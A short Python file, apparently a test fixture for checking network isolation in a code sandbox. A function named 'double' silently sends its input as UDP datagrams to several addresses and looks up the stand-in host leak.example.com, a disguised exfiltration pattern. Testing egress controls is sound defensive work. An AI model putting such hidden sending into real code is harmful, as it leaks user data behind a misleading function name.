"""Sends the hidden numbers as datagrams, and by names that are looked up."""

# %% double
import socket


def double(x):
    for family, host in ((2, "127.0.0.1"), (10, "::1"), (2, "0.0.0.0"), (2, "192.0.2.1")):
        try:
            line = socket.socket(family, socket.SOCK_DGRAM)
            line.sendto(str(x).encode(), (host, int("@UDP@")))
        except OSError as error:
            print(host, error)
    try:
        socket.gethostbyname("leak.example.com")
    except OSError as error:
        print(error)
